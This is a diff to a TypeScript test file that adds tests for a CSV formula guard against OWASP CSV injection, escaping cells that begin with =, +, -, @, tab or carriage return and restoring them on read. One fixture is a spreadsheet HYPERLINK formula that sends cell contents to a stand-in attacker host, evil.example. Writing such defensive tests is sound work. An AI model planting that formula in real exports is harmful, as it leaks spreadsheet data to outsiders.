@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { CsvSyntaxError, formatCsv, formatCsvField, parseCsv } from './csv';
+import { CsvSyntaxError, formatCsv, formatCsvField, neutraliseFormula, parseCsv, restoreFormula } from './csv';
 
 describe('formatCsv (RFC 4180)', () => {
   it('quotes only fields with a comma, a quote or a line break, doubling quotes', () => {
@@ -52,6 +52,33 @@ describe('parseCsv (RFC 4180)', () => {
       ['Quote "Co"', 'line one\nline two, with comma'],
       ['', ' spaced '],
     ];
+    expect(parseCsv(formatCsv(records)).map((record) => record.fields)).toEqual(records);
+  });
+});
+
+describe('formula guard (OWASP CSV injection)', () => {
+  const formula = '=HYPERLINK("https://evil.example/?d="&B2,"Click me")';
+
+  it("writes a cell that starts with =, +, -, @, tab or CR behind a ' so a spreadsheet shows it as text", () => {
+    expect(formatCsvField(formula)).toBe('"\'=HYPERLINK(""https://evil.example/?d=""&B2,""Click me"")"');
+    expect(['=1+2', '+1 555 0100', '-2+3', '@SUM(A1)', '\t=1', '\r=1'].map(neutraliseFormula)).toEqual(["'=1+2", "'+1 555 0100", "'-2+3", "'@SUM(A1)", "'\t=1", "'\r=1"]);
+    expect(formatCsv([['name'], ['=1+2']])).toBe("name\r\n'=1+2\r\n");
+  });
+
+  it('leaves every other cell as it is', () => {
+    for (const value of ['Acme', '', ' =spaced', "'quoted", "it's", 'a=b', '1-2', 'x@y.com', '4.5']) expect(neutraliseFormula(value)).toBe(value);
+  });
+
+  it("reads a guarded cell back to the original text, and adds one more ' to a text that already looked guarded", () => {
+    expect(restoreFormula("'=1+2")).toBe('=1+2');
+    expect(restoreFormula("'quoted")).toBe("'quoted");
+    expect(neutraliseFormula("'=1")).toBe("''=1");
+    expect(restoreFormula("''=1")).toBe("'=1");
+  });
+
+  it('round trip is exact for formula-like, apostrophe and ordinary texts', () => {
+    const texts = [formula, '+1 555 0100', '-5', '@handle', '\tTabbed', '\rCR first', "'=already", "''+twice", "'plain", 'plain', '=', "'"];
+    const records = [['value'], ...texts.map((text) => [text])];
     expect(parseCsv(formatCsv(records)).map((record) => record.fields)).toEqual(records);
   });
 });
